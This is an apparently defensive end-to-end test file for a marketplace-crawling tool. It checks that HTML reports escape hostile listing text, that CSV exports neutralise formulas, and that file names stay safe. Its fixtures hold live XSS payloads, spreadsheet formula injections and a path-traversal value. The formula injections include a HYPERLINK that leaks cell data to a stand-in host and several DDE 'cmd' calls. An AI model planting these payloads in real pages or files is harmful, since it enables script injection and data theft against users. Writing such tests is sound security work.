"""Listing text is data, never markup, formula or file name.

A loopback site sells listings whose titles and seller names carry `<script>`, event handlers,
`javascript:` links and spreadsheet formulas. After a real crawl and detect, every report that
exists renders them: HTML escapes them, CSV neutralises formulas, and no file the commands
write (nor any entry of an evidence bundle) is named after listing text."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import sqlite3
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest

from grayhound.demo.render import Request, Response
from grayhound.demo.sites import Router, serve_sites
from tests.e2e.conftest import grayhound as run_cli_child

pytestmark = pytest.mark.slow

SCRIPT = "<script>alert(1)</script>"
ITEMS = [  # (title, seller name, seller profile URL)
    ('=HYPERLINK("http://evil.test/?x="&A1,"Xiaomi 14 Pro 256GB")', SCRIPT + "Xiaomi Store", None),
    (
        SCRIPT + " Xiaomi 14 Pro 512GB <img src=x onerror=alert(2)>",
        '=HYPERLINK("http://e.test")',
        None,
    ),
    ('+cmd|" /C calc"!A0 Xiaomi 14 Pro', '@SUM(1+1)*cmd|" /C calc"!A0', "javascript:alert(3)"),
    ("-2+3+cmd|' /C calc'!A0 Xiaomi 14 Pro", "\tXiaomi\rOfficial", "/seller/../../etc/passwd"),
]
RAW_HTML_DANGER = re.compile(
    r"<script>alert|<img[^>]*onerror|href\s*=\s*[\"']?\s*javascript:|src\s*=\s*[\"']?javascript:",
    re.IGNORECASE,
)
SAFE_NAME = re.compile(r"^\.?[A-Za-z0-9][A-Za-z0-9._-]*$")
FORMULA_START = ("=", "+", "@", "\t", "\r")


def _item_page(req: Request, match: re.Match) -> Response:
    number = int(match.group(1))
    title, seller, seller_url = ITEMS[number]
    offer = {
        "@type": "Offer",
        "price": "299.00",
        "priceCurrency": "USD",
        "itemCondition": "https://schema.org/NewCondition",
        "seller": {
            "@type": "Organization",
            "name": seller,
            **({"url": seller_url} if seller_url else {}),
        },
    }
    ld = json.dumps(
        {
            "@context": "https://schema.org",
            "@type": "Product",
            "name": title,
            "brand": {"@type": "Brand", "name": "Xiaomi"},
            "offers": offer,
        }
    )
    body = (
        f'<!doctype html><title>item</title><script type="application/ld+json">'
        f"{ld.replace('</', '<' + chr(92) + '/')}</script>"
        f"<h1>{title}</h1>{SCRIPT}<p>Sold by {seller}</p>"
    )
    return Response(200, body.encode())


def hostile_router() -> Router:
    router = Router()
    links = "".join(f'<a href="/item/{n}.html">{n}</a>' for n in range(len(ITEMS)))
    router.add(r"/", lambda req, m: Response(200, f"<!doctype html>{links}".encode()))
    router.add(r"/item/(\d)\.html", _item_page)
    return router


def run_cli(config: Path, *args: str) -> SimpleNamespace:
    """The CLI in this process (only the crawl needs a child: a fresh reactor)."""
    from grayhound.cli import main

    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(["--config", str(config), *args])
    return SimpleNamespace(returncode=code, stdout=out.getvalue(), stderr=err.getvalue())


def _config(directory: Path, base: str) -> Path:
    path = directory / "grayhound.toml"
    path.write_text(
        f"""
[storage]
database = "grayhound.db"
evidence_dir = "evidence"

[brands.xiaomi]
name = "Xiaomi"
terms = ["xiaomi"]
official_domains = ["mi.com"]

[[catalog]]
brand = "xiaomi"
model = "Xiaomi 14 Pro"
msrp = {{ USD = 999.0 }}

[[sources]]
name = "hostile"
kind = "marketplace"
start_urls = ["{base}/"]
currency = "USD"

[crawl]
autothrottle = false
retries = 0

[digest]
out_dir = "digests"
"""
    )
    return path


@pytest.fixture(scope="module")
def outputs(tmp_path_factory) -> dict:
    directory = tmp_path_factory.mktemp("hostile")
    with serve_sites({"hostile": 0}, sites={"hostile": hostile_router()}) as served:
        config = _config(directory, served.urls["hostile"])
        crawled = run_cli_child(config, "crawl", timeout=120)
    assert crawled.returncode == 0, crawled.stderr[-2000:]
    assert run_cli(config, "detect").returncode == 0
    out = directory / "out"
    commands = {
        "digest.html": ("digest", "--format", "html", "--no-record"),
        "digest.md": ("digest", "--format", "md", "--no-record"),
        "digest.csv": ("digest", "--format", "csv", "--no-record"),
        "prices.html": ("prices", "--format", "html"),
        "prices.csv": ("prices", "--format", "csv"),
        "listings.csv": ("export", "listings", "--format", "csv"),
    }
    produced = {}
    for name, args in commands.items():
        result = run_cli(config, *args, "--out", str(out / name))
        if "No such command" in result.stderr:
            continue  # that report is not there yet
        assert result.returncode == 0, (name, result.stderr[-2000:])
        produced[name] = (out / name).read_text(encoding="utf-8")
    with sqlite3.connect(directory / "grayhound.db") as conn:
        listing_count = conn.execute("SELECT count(*) FROM listings").fetchone()[0]
        subjects = [  # one bundle per kind: the listing and the seller with <script> in them
            ("--listing", conn.execute("SELECT id FROM listings WHERE title LIKE '<script>%'")),
            ("--seller", conn.execute("SELECT id FROM sellers WHERE name LIKE '<script>%'")),
        ]
        subjects = [(kind, rows.fetchone()[0]) for kind, rows in subjects]
    bundles = []
    for kind, subject in subjects:
        bundle = out / f"bundle{kind}-{subject}.zip"
        result = run_cli(config, "evidence", "export", kind, str(subject), "--out", str(bundle))
        if "No such command" in result.stderr:
            break
        assert result.returncode == 0, result.stderr[-2000:]
        bundles.append(bundle)
    return {
        "directory": directory,
        "produced": produced,
        "bundles": bundles,
        "listings": listing_count,
    }


def test_the_hostile_listings_were_crawled(outputs):
    assert outputs["listings"] == len(ITEMS)
    assert {"digest.html", "listings.csv"} <= set(outputs["produced"])


def test_html_reports_escape_listing_text(outputs):
    html_outputs = {n: t for n, t in outputs["produced"].items() if n.endswith(".html")}
    for bundle in outputs["bundles"]:
        with zipfile.ZipFile(bundle) as archive:
            for entry in archive.namelist():
                if entry.endswith(".html"):
                    html_outputs[f"{bundle.name}:{entry}"] = archive.read(entry).decode()
    assert any("summary.html" in name for name in html_outputs) or not outputs["bundles"]
    for name, text in html_outputs.items():
        found = RAW_HTML_DANGER.search(text)
        assert found is None, f"{name}: raw {found.group(0)!r}"
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in outputs["produced"]["digest.html"]


def test_csv_outputs_neutralise_formulas(outputs):
    for name, text in outputs["produced"].items():
        if not name.endswith(".csv"):
            continue
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(FORMULA_START), f"{name}: formula cell {cell!r}"
                if cell.startswith("-"):
                    assert re.fullmatch(r"-[0-9.]+", cell), f"{name}: formula cell {cell!r}"


def test_no_file_is_named_after_listing_text(outputs):
    for path in outputs["directory"].rglob("*"):
        assert SAFE_NAME.match(path.name), f"unsafe file name {path}"
    for bundle in outputs["bundles"]:
        with zipfile.ZipFile(bundle) as archive:
            for entry in archive.namelist():
                assert all(SAFE_NAME.match(part) for part in entry.split("/")), entry
